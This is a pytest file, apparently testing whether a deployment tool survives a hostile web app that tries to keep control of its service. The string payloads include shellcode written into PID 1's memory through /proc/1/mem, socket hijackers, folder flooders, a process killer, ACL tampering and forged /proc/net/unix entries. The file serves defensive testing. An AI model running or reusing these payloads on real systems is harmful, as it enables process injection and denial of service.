"""The attacker wants the service to stay in its hands: its emperor, or the socket that visitors reach."""

from __future__ import annotations

import time

import pytest
from puppets import DATA, NAME, SITE, Puppet, others_of

from debonair import trial

pytestmark = [pytest.mark.boot, pytest.mark.long]

# Machine code of x86-64 in the place of libc's opendir(3), which the emperor calls each second. It repeats
# sendto(2) to systemd's socket for ever, and ends for no signal but SIGKILL.
TAKE_OVER = r"""
import ctypes, struct
def libc(pid):
    for line in open(f"/proc/{pid}/maps"):
        if "libc.so.6" in line:
            return int(line.partition("-")[0], 16)
message = b"STATUS=Well \x1b[31mRED\x1b]0;OWNED\x07\nEXTEND_TIMEOUT_USEC=60000000\nREADY=1"
address = struct.pack("<H", socket.AF_UNIX) + b"/run/systemd/notify\0"
pause = struct.pack("<qq", 1, 0)
code, places = b"", []
def add(part, data=None):
    global code
    code += part
    if data is not None:  # a displacement from here, filled in below
        places.append((len(code), data))
        code += bytes(4)
add(b"\xbf\x01\0\0\0\xbe\x02\0\0\0\x31\xd2\xb8\x29\0\0\0\x0f\x05\x41\x89\xc4")  # r12 = socket(1, 2, 0)
loop = len(code)
add(b"\x44\x89\xe7")  # edi = r12d
add(b"\x48\x8d\x35", message)  # rsi
add(b"\xba" + struct.pack("<I", len(message)) + b"\x45\x31\xd2")  # edx, r10d = 0
add(b"\x4c\x8d\x05", address)  # r8
add(b"\x41\xb9" + struct.pack("<I", len(address)) + b"\xb8\x2c\0\0\0\x0f\x05")  # r9d, sendto
add(b"\x48\x8d\x3d", pause)  # rdi
add(b"\x31\xf6\xb8\x23\0\0\0\x0f\x05")  # nanosleep
add(b"\xe9" + struct.pack("<i", loop - len(code) - 5))  # back to the loop
for place, data in places:
    code = code[:place] + struct.pack("<i", len(code) - place - 4) + code[place + 4 :] + data
function = ctypes.cast(ctypes.CDLL("libc.so.6").opendir, ctypes.c_void_p).value
with open("/proc/1/mem", "r+b", buffering=0) as memory:
    memory.seek(libc(1) + function - libc("self"))
    memory.write(code)
result = "taken over"
"""

STAYER = """
import os, signal, socket, threading, time
signal.signal(signal.SIGTERM, signal.SIG_IGN)
WEB = "/run/puppet/sockets/web/"
"""

# It answers the visitors of whichever release is served, and root's question about its health.
ANSWERS = f"""{STAYER}
def serve(listening):
    while True:
        one, _ = listening.accept()
        one.recv(65536)
        one.sendall(b"HTTP/1.1 200 OK\\r\\nContent-Type: text/plain\\r\\n\\r\\nold code")
        one.close()
mine = None
while True:
    try:
        there = os.stat(WEB + "app.sock").st_ino
        if there != mine:
            listening = socket.socket(socket.AF_UNIX)
            listening.bind(WEB + "new")
            os.chmod(WEB + "new", 0o660)
            listening.listen(50)
            threading.Thread(target=serve, args=[listening], daemon=True).start()
            mine = os.stat(WEB + "new").st_ino
            os.rename(WEB + "new", WEB + "app.sock")
    except OSError:
        pass
    time.sleep(0.01)
"""

# It fills the folder, so that no release can begin in it.
FLOODS = f"""{STAYER}
number = 0
while True:
    number += 1
    try:
        os.makedirs(WEB + "app.sock/x", exist_ok=True)
        os.makedirs(f"{{WEB}}a{{number % 5}}/b/c/d", exist_ok=True)
        open(f"{{WEB}}a{{number % 5}}/b/f{{number % 50}}", "w").close()
    except OSError:
        pass
"""

# It has the folder of the sockets only as a descriptor, which a web process hands out.
HANDS_OUT = f"""
import builtins, socket, threading
opened = os.open("/run/{NAME}/sockets/web", os.O_RDONLY | os.O_DIRECTORY)
door = socket.socket(socket.AF_UNIX)
door.bind("{DATA}/door")
door.listen(5)
def hand_out():
    while True:
        one, _ = door.accept()
        socket.send_fds(one, [b"x"], [opened])
builtins.door = door
threading.Thread(target=hand_out, daemon=True).start()
result = "open"
"""
TAKES = f"""
import socket
asking = socket.socket(socket.AF_UNIX)
asking.connect("{DATA}/door")
_, descriptors, _, _ = socket.recv_fds(asking, 1, 1)
"""
ANSWERS_THERE = TAKES + ANSWERS.replace('"/run/puppet/sockets/web/"', 'f"/proc/self/fd/{descriptors[0]}/"')

# A name in the abstract namespace may contain line breaks, so it adds lines to /proc/net/unix.
ADDS_LINES = r"""
import builtins
builtins.kept = []
for slot in ("web", "next"):
    path = f"/run/puppet/sockets/{slot}/app.sock"
    for line in (f"x {path}", f"{0:016x}: 00000002 00000000 00000000 0001 03 4077 {path}"):
        one = socket.socket(socket.AF_UNIX)
        one.bind(f"\0{slot}\n{line}")
        one.listen(1)
        builtins.kept.append(one)
result = "added"
"""
SERVES_ITSELF = """
if __name__ == "__main__":
    app.run("unix://" + os.environ["SOCKET"])
"""

# What an older release's unit let its job see.
OLDER_VIEW = "[Service]\nInaccessiblePaths=\nInaccessiblePaths=-/run/puppet/sockets/next\n"


def test_its_emperor_gets_more_time_and_the_terminal(puppet: Puppet) -> None:
    assert puppet(TAKE_OVER) == "taken over"
    time.sleep(4)
    assert puppet.machine.run(["systemctl", "show", "-P", "StatusText", NAME]).stdout.strip() == ""
    began = time.monotonic()
    puppet.machine.run(["systemctl", "stop", NAME], timeout=100)
    assert time.monotonic() - began < 60


def test_its_emperor_refuses_the_release_that_closes_the_hole(puppet: Puppet) -> None:
    assert puppet(TAKE_OVER) == "taken over"
    time.sleep(4)
    puppet.taken(puppet.upgrade())
    puppet.machine.run(["systemctl", "restart", NAME], timeout=100)
    trial.healthy(puppet.machine, NAME, SITE)


RIGHTS = {
    "mode": "os.chmod(WEB, 0)",
    "group": "import contextlib\nwith contextlib.suppress(PermissionError): os.chown(WEB, -1, os.getgid())",
    "default ACL": """
import struct
entries = [(1, 7, -1), (2, 7, os.getuid()), (4, 0, -1), (16, 7, -1), (32, 0, -1)]
acl = b"".join(struct.pack("<HHi", *entry) for entry in entries)
os.setxattr(WEB, "system.posix_acl_default", struct.pack("<I", 2) + acl)
""",
}
"""What the owner of the folder of its sockets may do to it, so that no visitor reaches the next release."""


@pytest.mark.parametrize("code", RIGHTS.values(), ids=RIGHTS)
def test_the_rights_of_its_folder_keep_visitors_out(puppet: Puppet, code: str) -> None:
    assert puppet(f"WEB = '/run/{NAME}/sockets/web'\n{code}\nresult = 'done'") == "done"
    puppet.taken(puppet.upgrade())
    state = puppet.machine.run(["systemctl", "is-active", f"{NAME}.next"], check=False).stdout.strip()
    assert state == "inactive"


# It ends every other process of its user, but not its own parent.
KILLER = """
import os, signal
signal.signal(signal.SIGTERM, signal.SIG_IGN)
while True:
    for pid in range(2, 4000):
        if pid not in {os.getpid(), os.getppid()}:
            try:
                os.kill(pid, 9)
            except OSError:
                pass
"""


def test_the_job_of_a_timer_kills_what_is_tried_after_a_stop(puppet: Puppet) -> None:
    puppet.keep("stayer.py", KILLER)
    puppet.keep("config.py", f'import os, sys\nif "tick" in sys.argv:\n    os.execv({PYTHON})\n')
    puppet.machine.run(["systemctl", "start", "--no-block", f"{NAME}-tick.service"])
    _runs(puppet)
    puppet.machine.run(["systemctl", "stop", NAME], timeout=100)
    puppet.machine.run([NAME, "rollback", "--undo"], timeout=200)
    trial.healthy(puppet.machine, NAME, SITE)
    assert others_of(puppet, "stayer") == []


@pytest.mark.parametrize("view", ["", OLDER_VIEW], ids=["of now", "of an older release"])
@pytest.mark.parametrize("code", [ANSWERS, FLOODS], ids=["answers", "floods"])
def test_the_job_of_a_timer_takes_the_socket(puppet: Puppet, code: str, view: str) -> None:
    puppet.keep("stayer.py", code)
    puppet.keep("config.py", f'import os, sys\nif "tick" in sys.argv:\n    os.execv({PYTHON})\n')
    _see(puppet, "tick", view)
    puppet.machine.run(["systemctl", "start", "--no-block", f"{NAME}-tick.service"])
    _runs(puppet)
    done = puppet.upgrade()
    assert others_of(puppet, "stayer") == []
    puppet.taken(done)
    assert not puppet.status()["refused"]


def test_a_descriptor_of_the_folder_takes_the_socket(puppet: Puppet) -> None:
    assert puppet(HANDS_OUT) == "open"
    puppet.keep("stayer.py", ANSWERS_THERE)
    puppet.keep("config.py", f'import os, sys\nif "tick" in sys.argv:\n    os.execv({PYTHON})\n')
    puppet.machine.run(["systemctl", "start", "--no-block", f"{NAME}-tick.service"])
    _runs(puppet)
    _answers(puppet, "old code")
    done = puppet.upgrade()
    assert others_of(puppet, "stayer") == []
    puppet.taken(done)
    assert not puppet.status()["refused"]


def test_lines_in_the_kernels_table_keep_the_next_release_out(puppet: Puppet) -> None:
    settings = 'install = "wheel"\nserver = "command"\nwsgi = ""\ncommand = "python3 -m puppet"'
    puppet.taken(puppet.upgrade(settings=settings, edit=lambda app: app + SERVES_ITSELF))
    assert puppet(ADDS_LINES) == "added"
    puppet.taken(puppet.upgrade(settings=settings, edit=lambda app: app + SERVES_ITSELF))
    assert not puppet.status()["refused"]


def test_a_worker_that_the_next_release_lacks_takes_the_socket(puppet: Puppet) -> None:
    puppet.keep("stayer.py", ANSWERS)
    _see(puppet, "stay", OLDER_VIEW)
    worker = f"""[tool.debonair.workers]\nstay = "exec /usr/bin/python3 {DATA}/stayer.py"\n"""
    puppet.upgrade(tables=worker)
    _runs(puppet)
    done = puppet.upgrade()
    assert others_of(puppet, "stayer") == []
    puppet.taken(done)


PYTHON = f'"/usr/bin/python3", ["python3", "{DATA}/stayer.py"]'


def _see(puppet: Puppet, name: str, view: str) -> None:
    """Let the command ``name`` see what ``view``, a drop-in for its unit, shows."""
    folder = f"/run/systemd/system/{NAME}-{name}.service.d"
    puppet.machine.run(["rm", "-rf", folder])
    if view:
        puppet.machine.run(["mkdir", "-p", folder])
        puppet.machine.write(f"{folder}/view.conf", view.encode())
    puppet.machine.run(["systemctl", "daemon-reload"])


def _answers(puppet: Puppet, text: str) -> None:
    """Wait until visitors get ``text``: the attack has its socket."""
    deadline = time.monotonic() + 20
    while puppet.page() != text:
        assert time.monotonic() < deadline, puppet.page()
        time.sleep(0.2)


def _runs(puppet: Puppet) -> None:
    deadline = time.monotonic() + 20
    while not [line for line in puppet.processes() if "stayer" in line]:
        assert time.monotonic() < deadline, puppet.processes()
        time.sleep(0.2)
